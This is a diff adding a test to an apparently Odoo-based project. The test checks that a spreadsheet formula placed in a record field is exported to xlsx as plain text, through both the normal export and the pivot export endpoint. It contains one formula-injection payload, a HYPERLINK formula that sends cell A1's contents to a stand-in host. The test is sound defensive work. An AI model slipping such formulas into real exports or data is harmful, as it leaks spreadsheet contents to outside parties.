@@ -145,11 +145,39 @@ class TestDoorsHttp(PortalHttpCommon):
         cells = [row[0].value for row in book.active.iter_rows(min_row=2)]
         self.assertEqual(sorted(cells), expected)
 
-    def _export(self, user, kind):
+    def test_words_are_no_formulas_in_workbooks_of_odoo(self):
+        words = '=HYPERLINK("https://x.example/?"&A1,"x")'
+        self.line.sudo().responsible_name = words
+        book = self._export(self.manager, "xlsx", "responsible_name").content
+        cells = self._get_cells(book)
+        self.assertIn((words, "s"), cells)
+        heads = [[{"title": words, "width": 1, "height": 1}]]
+        pivot = {
+            "title": words,
+            "col_group_headers": heads,
+            "measure_headers": [{"title": words, "is_bold": False}],
+            "origin_headers": [],
+            "rows": [{"title": words, "indent": 0, "values": [{"value": words}]}],
+            "model": "profplan.sheet.line",
+            "measure_count": 1,
+            "origin_count": 0,
+        }
+        token = {"csrf_token": http.Request.csrf_token(self)}
+        sent = {"data": ("data", json.dumps(pivot))}
+        answer = self.url_open("/web/pivot/export_xlsx", data=token, files=sent)
+        cells = self._get_cells(answer.content)
+        self.assertEqual({kind for value, kind in cells if value == words}, {"s"})
+        self.assertGreaterEqual([value for value, _kind in cells].count(words), 3)
+
+    def _get_cells(self, content):
+        rows = load_workbook(io.BytesIO(content)).active.iter_rows()
+        return [(cell.value, cell.data_type) for row in rows for cell in row]
+
+    def _export(self, user, kind, field="display_name"):
         self._log_in(user)
         data = {
             "model": "profplan.sheet.line",
-            "fields": [{"name": "display_name", "label": "Name", "type": "char"}],
+            "fields": [{"name": field, "label": "Name", "type": "char"}],
             "ids": False,
             "domain": [],
             "import_compat": False,
